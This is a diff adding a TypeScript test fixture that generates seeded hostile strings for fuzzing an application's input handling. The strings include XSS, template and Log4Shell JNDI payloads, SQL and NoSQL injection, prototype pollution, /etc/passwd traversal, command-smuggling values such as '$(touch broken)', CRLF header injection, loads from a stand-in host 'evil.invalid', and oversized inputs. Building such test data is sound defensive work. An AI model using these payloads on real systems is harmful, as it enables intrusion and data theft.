@@ -1,0 +1,127 @@
+/**
+ * Texts that mean harm to whoever takes them for more than text: markup, script, addresses, queries, templates, control
+ * characters and sheer size. A table and a seed; the same seed gives the same texts.
+ */
+
+import { randomStream } from '../../shared/random.ts'
+
+/** What a text does where it is run: the tests look for this mark. */
+const deed = 'globalThis.broken=1'
+
+const payloads: readonly string[] = [
+  `<script>${deed}</script>`,
+  `<img src=x onerror=${deed}>`,
+  `<svg onload=${deed}>`,
+  `<svg><animate onbegin=${deed} attributeName=x dur=1s>`,
+  `<iframe srcdoc="<script>parent.${deed}</script>">`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${deed}&gt;">`,
+  `<details open ontoggle=${deed}>`,
+  `<body onload=${deed}>`,
+  `<input autofocus onfocus=${deed}>`,
+  `<a href="javascript:${deed}">x</a>`,
+  `<object data="javascript:${deed}">`,
+  `<base href="https://evil.invalid/">`,
+  `<meta http-equiv="refresh" content="0;url=javascript:${deed}">`,
+  `<link rel=stylesheet href="//evil.invalid/x.css">`,
+  `<form action="javascript:${deed}"><button>x`,
+  `<template shadowrootmode=open><script>${deed}</script></template>`,
+  '<style>@import "https://evil.invalid/x.css";*{display:none}</style>',
+  `"><script>${deed}</script>`,
+  `' onmouseover='${deed}`,
+  `" autofocus onfocus="${deed}`,
+  `</textarea><script>${deed}</script>`,
+  `</title><script>${deed}</script>`,
+  `--><script>${deed}</script>`,
+  `]]><script>${deed}</script>`,
+  `javascript:${deed}`,
+  `JaVaScRiPt:${deed}//`,
+  `java\tscript:${deed}`,
+  `data:text/html,<script>${deed}</script>`,
+  'data:text/javascript,globalThis.broken=1',
+  `blob:https://evil.invalid/${'0'.repeat(36)}`,
+  `vbscript:${deed}`,
+  'file:///etc/passwd',
+  '//evil.invalid/x.js',
+  '\\\\evil.invalid\\share',
+  `\${${deed}}`,
+  `{{constructor.constructor('${deed}')()}}`,
+  `#{${deed}}`,
+  `<%= ${deed} %>`,
+  `[[${deed}]]`,
+  `\${jndi:ldap://evil.invalid/a}`,
+  `';${deed};//`,
+  `\`;${deed};\``,
+  `");${deed};("`,
+  `\\u003cscript\\u003e${deed}\\u003c/script\\u003e`,
+  '&lt;script&gt;globalThis.broken=1&lt;/script&gt;',
+  '&#60;img src=x onerror=globalThis.broken=1&#62;',
+  '%3Cscript%3EglobalThis.broken=1%3C/script%3E',
+  '+ADw-script+AD4-globalThis.broken=1+ADw-/script+AD4-',
+  "'; DROP TABLE clips; --",
+  '1 OR 1=1',
+  "admin'/*",
+  '{"$where":"globalThis.broken=1"}',
+  '{"__proto__":{"broken":1}}',
+  '__proto__',
+  'constructor',
+  'toString',
+  '../../../../etc/passwd',
+  '..%2f..%2fetc%2fpasswd',
+  'CON',
+  '$(touch broken)',
+  '`touch broken`',
+  '| touch broken',
+  '\r\nSet-Cookie: broken=1',
+  'x\r\n\r\n<script>globalThis.broken=1</script>',
+  'null',
+  'undefined',
+  'NaN',
+  '[object Object]',
+  '1e309',
+  '-0',
+  '٣٤٥',
+  '＜script＞globalThis.broken=1＜/script＞',
+  '\u202egnp.elif',
+  '\u2066\u202eevil\u2069 fox',
+  '\u200b\u200c\u200d\ufeff',
+  'שלום fox עולם',
+  'مرحبا <b>fox</b>',
+  'f\u0301\u0302\u0303\u0304\u0305\u0306'.repeat(20),
+  '👩‍👩‍👧‍👦🏳️‍🌈🧑🏿‍🚀',
+  '👨‍👩‍👧‍👦'.repeat(100),
+  'ﷺ'.repeat(200),
+  '\u0000',
+  'a fox\u0000<script>globalThis.broken=1</script>',
+  '\u0001\u0008\u001b[31mred\u001b[0m\u007f',
+  '\ud800',
+  '\udfff lone',
+  '\ufffe\uffff',
+  'a'.repeat(10_000),
+  '<'.repeat(5_000),
+  `<b>${'<i>'.repeat(600)}`,
+  'fox '.repeat(1_000),
+  '\n'.repeat(500),
+  '\u2028globalThis.broken=1\u2029',
+]
+
+/** Contexts from which a payload tries to break out. */
+const wrappers: readonly ((payload: string) => string)[] = [
+  (payload) => `a blue fox ${payload}`,
+  (payload) => `${payload} jumps in the snow`,
+  (payload) => `"${payload}"`,
+  (payload) => `'"><${payload}`,
+  (payload) => `<x y="${payload}">`,
+  (payload) => `\u202e${payload}\u202c`,
+  (payload) => payload.toUpperCase(),
+  (payload) => encodeURIComponent(payload.toWellFormed()),
+  (payload) => `${payload}\u0000${payload}`,
+  (payload) => JSON.stringify({ prompt: payload }),
+]
+
+/** Different texts, every payload bare among them. */
+export function hostileTexts(seed: number, count: number): string[] {
+  const texts = new Set(payloads)
+  const { pick } = randomStream(seed)
+  while (texts.size < count) texts.add(pick(wrappers)(pick(payloads)))
+  return [...texts].slice(0, count)
+}
